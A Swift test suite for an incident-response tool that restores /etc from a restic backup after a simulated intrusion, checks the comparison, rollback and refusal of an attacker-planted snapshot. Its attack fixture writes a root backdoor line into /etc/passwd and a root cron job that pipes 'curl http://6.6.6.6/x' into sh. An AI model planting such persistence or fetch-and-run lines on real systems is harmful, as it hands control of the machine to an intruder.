import AtttTestSupport
import Foundation
import HardeningCore
import HostAccess
import IncidentResponse
import Remediation
import Testing

/// Bước 3 (Điều 11 khoản 2 điểm a) through the library the command calls: a real restic repository
/// made the way the backup job makes it, an attacked tree, the copy staged and compared, put in place
/// as one transaction equal to `restic dump`, and rolled back to the attacked tree.
///
/// The repository is in its own directory under the tree's /media (a removable disk, as BAK-001 judges
/// a target); it is only read, so no separate file system is needed.
@Suite(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/restic") && geteuid() == 0,
                "needs Debian's restic (scripts/deps.sh), and root: restic restores the files' owners only as root"))
struct RestoreTests {
    let host: FixtureHost
    let env: [String: String]
    let snapshot: String

    init() throws {
        host = try FixtureHost("debian12-desktop")
        try host.write("/etc/restic/password", "Mat-khau-kho-sao-luu-1\n")
        try host.write("/etc/restic/env", "export RESTIC_REPOSITORY=/media/usb/restic\nRESTIC_PASSWORD_FILE=\"/etc/restic/password\"\n")
        try host.write("/etc/hosts", "127.0.0.1 localhost\n")
        try FileManager.default.createDirectory(at: host.url("/media/usb"), withIntermediateDirectories: true)
        env = ["RESTIC_REPOSITORY": host.url("/media/usb/restic").path, "RESTIC_PASSWORD_FILE": host.url("/etc/restic/password").path, "RESTIC_CACHE_DIR": host.url("/media/usb/cache").path]
        let initialised = try Self.run("/usr/bin/restic", ["init"], env: env)
        try #require(initialised.status == 0, "\(initialised.stderr)")
        // The job's command, run in the tree: restic names a relative path as given, so the
        // snapshot holds /etc/…, as on a PC.
        let backup = try Self.run("/bin/sh", ["-c", "cd \"$0\" && exec restic backup --host \"$(cat etc/hostname)\" --json etc", host.root.path], env: env)
        try #require(backup.status == 0, "\(backup.stderr)")
        let summary = try #require(backup.stdout.split(separator: "\n").last { $0.contains("\"summary\"") })
        snapshot = try #require((try JSONSerialization.jsonObject(with: Data(summary.utf8)) as? [String: Any])?["snapshot_id"] as? String)
        // Written after the run, as attt-backup does: the snapshot's time is before the record's.
        try host.write("/var/lib/attt/backup/last.json", """
            {"time": "\(ISO8601DateFormatter().string(from: Date()))", "exitCode": 0, "tool": "restic", "target": "/media/usb/restic", "paths": ["/etc"], "snapshot": "\(snapshot)"}
            """)
    }

    /// last.json as the job writes it after a run that made `snapshot`.
    func record(_ snapshot: String) throws {
        try host.write("/var/lib/attt/backup/last.json", """
            {"time": "\(ISO8601DateFormatter().string(from: Date()))", "exitCode": 0, "tool": "restic", "target": "/media/usb/restic", "paths": ["/etc"], "snapshot": "\(snapshot)"}
            """)
    }

    /// `restic backup --json` run in the tree on `paths`; the snapshot's short id.
    func backup(_ paths: String = "etc") throws -> String {
        let made = try Self.run("/bin/sh", ["-c", "cd \"$0\" && exec restic backup --host \"$(cat etc/hostname)\" --json \(paths)", host.root.path], env: env)
        try #require(made.status == 0, "\(made.stderr)")
        let summary = try #require(made.stdout.split(separator: "\n").last { $0.contains("\"summary\"") })
        return try #require((try JSONSerialization.jsonObject(with: Data(summary.utf8)) as? [String: Any])?["snapshot_id"] as? String)
    }

    static func run(_ program: String, _ arguments: [String], env: [String: String]) throws -> AtttBinary.Output {
        try AtttBinary.run(executable: URL(fileURLWithPath: program), arguments, environment: env)
    }

    func tree() throws -> [String: String] {
        try snapshotTree(host.root).filter { !$0.key.hasPrefix("var/lib/attt") && !$0.key.hasPrefix(".attt-restore-") }
    }

    func attack() throws {
        try host.append("/etc/passwd", "sysadm:x:0:0::/root:/bin/bash\n")
        try host.write("/etc/sysctl.conf", "net.ipv4.ip_forward = 1\n")
        try host.remove("/etc/shells")
        try host.remove("/etc/hostname")
        try host.write("/etc/cron.d/evil", "* * * * * root curl -s http://6.6.6.6/x | sh\n")
        try host.write("/etc/machine-id", "00000000000000000000000000000000\n")
        // Isolated meanwhile: the pin must survive the restore.
        try host.write("/etc/hosts", "127.0.0.1 localhost\n10.231.7.1 thu-thap.xa.vn # attt-isolation\n")
    }

    func source(since: Date? = nil, snapshot: String? = nil) throws -> BackupSource {
        try BackupSource.open(host: HostRoot(host.root.path), envFile: "/etc/restic/env", suspectedStart: since, snapshot: snapshot)
    }

    @Test func theComparisonIsExactlyTheAttack() throws {
        try attack()
        let before = try tree()
        let restore = Restore(host: HostRoot(host.root.path))
        let preview = try restore.prepare(source: try source(), scopes: [.system], id: "test")
        let changes = preview.selection.changes.map { "\($0.kind.rawValue) \($0.path)" }
        #expect(Set(changes) == ["changed /etc/passwd", "changed /etc/sysctl.conf", "missing /etc/hostname", "missing /etc/shells", "not-in-backup /etc/cron.d/evil"], "\(changes)")
        #expect(preview.selection.skipped.map(\.path) == ["/etc/machine-id"])
        #expect(preview.areas == ["/.attt-restore-test"])
        let mode = try FileManager.default.attributesOfItem(atPath: host.url("/.attt-restore-test/stage").path)[.posixPermissions] as? Int
        #expect(mode == 0o700)
        restore.discard(preview)
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-test").path))
        #expect(try tree() == before)
    }

    @Test func theRestoreEqualsResticDumpAndRollsBack() throws {
        try attack()
        let attacked = try tree()
        let restore = Restore(host: HostRoot(host.root.path))
        let preview = try restore.prepare(source: try source(), scopes: [.system], id: "test")
        let journal = try restore.apply(preview, officer: "can-bo")
        #expect(journal.state == .applied, "\(journal.error ?? "")")
        for path in ["/etc/passwd", "/etc/sysctl.conf", "/etc/shells", "/etc/hostname"] {
            let dumped = try Self.run("/usr/bin/restic", ["dump", snapshot, path], env: env)
            let restored = try Data(contentsOf: host.url(path))
            #expect(dumped.status == 0 && dumped.data == restored, "\(path)")
        }
        #expect(!FileManager.default.fileExists(atPath: host.url("/etc/cron.d/evil").path))
        #expect(try host.read("/etc/machine-id") == "00000000000000000000000000000000\n")
        #expect(try host.read("/etc/hosts") == "127.0.0.1 localhost\n10.231.7.1 thu-thap.xa.vn # attt-isolation\n")
        // The stage is gone; the attacked files are kept beside the transaction.
        #expect(!FileManager.default.fileExists(atPath: host.url("/.attt-restore-test").path))
        #expect(Restore.keptDirectories(journal) == ["/.attt-restore-\(journal.id)/kept"])
        let keptDir = host.url("/.attt-restore-\(journal.id)/kept")
        let kept = try FileManager.default.contentsOfDirectory(atPath: keptDir.path).map { try String(contentsOf: keptDir.appendingPathComponent($0), encoding: .utf8) }
        #expect(kept.contains { $0.contains("sysadm:x:0:0") } && kept.contains { $0.contains("6.6.6.6") } && kept.contains("net.ipv4.ip_forward = 1\n"))

        let rolledBack = try Applier(host: HostRoot(host.root.path)).rollback(nil)
        #expect(rolledBack.state == .rolledBack)
        #expect(try tree() == attacked)
    }

    /// The latest copy was made after the attack may have begun: refused unless a snapshot is named.
    @Test func aCopyNewerThanTheSuspectedStartNeedsANamedSnapshot() throws {
        #expect(throws: BackupSource.Refused.self) { try source(since: Date().addingTimeInterval(-3600)) }
        #expect(try source(since: Date().addingTimeInterval(-3600), snapshot: snapshot).choice?.snapshot.shortId == snapshot)
    }

    /// A repository that does not open with the password is refused by `restic check`, before anything is staged.
    @Test func aRepositoryThatFailsItsCheckIsRefused() throws {
        try host.write("/etc/restic/password", "sai-mat-khau\n")
        let before = try tree()
        let restore = Restore(host: HostRoot(host.root.path))
        #expect(throws: BackupSource.Refused.self) { try restore.prepare(source: try source(), scopes: [.system], id: "test") }
        #expect(try tree() == before)
    }

    @Test func aGoodRecordGivesTheRecordedSnapshot() throws {
        let source = try source()
        #expect(source.kind == .restic && source.verifiable)
        #expect(source.choice?.reason == .recorded && source.choice?.snapshot.shortId == snapshot, "\(String(describing: source.choice))")
    }

    /// The attack this guards against: root on the PC holds the job's credentials and adds a copy of
    /// the attacked system, the newest in the repository. Without a snapshot named anywhere the
    /// restore takes the newest copy made by the job's record, and the attacked files do not come back.
    @Test func anAttackersLaterSnapshotIsNotTaken() throws {
        try host.replace("/var/lib/attt/backup/last.json", ", \"snapshot\": \"\(snapshot)\"", with: "")
        // The record's time is whole seconds: the attacker's copy comes later than that second.
        Thread.sleep(forTimeInterval: 2.2)
        try attack()
        let planted = try backup()
        #expect(planted != snapshot)
        let source = try source()
        #expect(source.choice?.snapshot.shortId == snapshot && source.choice?.reason == .newestBefore)
        #expect(source.choice?.why.contains("bỏ qua 1 bản mới hơn") == true, "\(source.choice?.why ?? "")")
        let restore = Restore(host: HostRoot(host.root.path))
        let journal = try restore.apply(try restore.prepare(source: source, scopes: [.system], id: "test"), officer: "can-bo")
        #expect(journal.state == .applied, "\(journal.error ?? "")")
        let dumped = try Self.run("/usr/bin/restic", ["dump", snapshot, "/etc/passwd"], env: env)
        let restored = try Data(contentsOf: host.url("/etc/passwd"))
        #expect(dumped.status == 0 && dumped.data == restored)
        #expect(!String(decoding: restored, as: UTF8.self).contains("sysadm"))
        // Named by the officer, the later copy is taken all the same (and the dry run says so).
        #expect(try self.source(snapshot: planted).choice?.reason == .named)
    }

    /// The free space asked for is what the chosen roots hold in the copy, not the whole snapshot.
    @Test func theSizeCountedIsTheRestoredRoots() throws {
        try host.writeData("/home/an/anh.raw", Data(repeating: 7, count: 3 << 20))
        try host.write("/home/an/ghi-chu.txt", "ghi chú\n")
        let both = try backup("etc home")
        try record(both)
        let source = try source()
        let etc = try host.regularFileBytes(under: "/etc"), home = try host.regularFileBytes(under: "/home")
        #expect(home > 3 << 20)
        #expect(try source.restoreSize(of: ["/etc"]) == etc)
        #expect(try source.restoreSize(of: ["/home"]) == home)
        #expect(try source.restoreSize(of: ["/etc", "/home"]) == etc + home)
        #expect(try source.restoreSize(of: ["/srv"]) == 0)
    }

    /// A directory's own mode and owner come back as in the backup, an empty one deleted is made
    /// again, and a rollback gives the attacked ones back.
    @Test func directoriesGetTheirModeAndOwnerBack() throws {
        try FileManager.default.createDirectory(at: host.url("/etc/sudoers.d"), withIntermediateDirectories: true)
        #expect(chmod(host.url("/etc/sudoers.d").path, 0o750) == 0)
        try FileManager.default.createDirectory(at: host.url("/etc/apt/keyrings"), withIntermediateDirectories: true)
        #expect(chmod(host.url("/etc/apt/keyrings").path, 0o700) == 0)
        let made = try backup()
        try record(made)
        #expect(chmod(host.url("/etc/sudoers.d").path, 0o777) == 0 && chown(host.url("/etc/sudoers.d").path, 1000, 1000) == 0)
        try host.remove("/etc/apt/keyrings")
        let attacked = try tree()

        let restore = Restore(host: HostRoot(host.root.path))
        let preview = try restore.prepare(source: try source(), scopes: [.system], id: "test")
        #expect(preview.selection.changes.map { "\($0.kind.rawValue) \($0.path) \($0.differences)" } == [
            "missing /etc/apt/keyrings []", "changed /etc/sudoers.d [\"mode\", \"owner\", \"group\"]",
        ])
        let journal = try restore.apply(preview, officer: "can-bo")
        #expect(journal.state == .applied, "\(journal.error ?? "")")
        let now = try tree()
        #expect(now["etc/sudoers.d"] == "\(S_IFDIR) 750 0:0 " && now["etc/apt/keyrings"] == "\(S_IFDIR) 700 0:0 ", "\(now["etc/sudoers.d"] ?? "") \(now["etc/apt/keyrings"] ?? "")")
        _ = try Applier(host: HostRoot(host.root.path)).rollback(nil)
        #expect(try tree() == attacked)
    }
}
